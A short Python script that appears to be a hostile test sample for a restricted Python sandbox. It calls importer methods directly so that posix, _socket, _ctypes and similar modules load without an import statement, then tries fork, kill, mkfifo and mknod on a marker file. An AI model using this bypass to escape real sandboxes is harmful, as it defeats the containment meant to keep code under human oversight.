"""Loads posix and others anew through the importers, without the statement."""

import sys

found = {}
for importer in [*sys.meta_path, type(sys.__spec__), getattr(sys, "__loader__", None)]:
    for name in ("posix", "_posixsubprocess", "_signal", "_socket", "_ctypes", "gc", "fcntl", "os", "select"):
        for load in ("load_module", "create_module", "find_spec"):
            try:
                found[name] = getattr(importer, load)(name)
            except BaseException:
                pass
for name in ("mkfifo", "fork", "kill", "open", "mknod"):
    try:
        getattr(found["posix"], name)("/tmp/hostile_mark", 0o666)
    except BaseException:
        pass
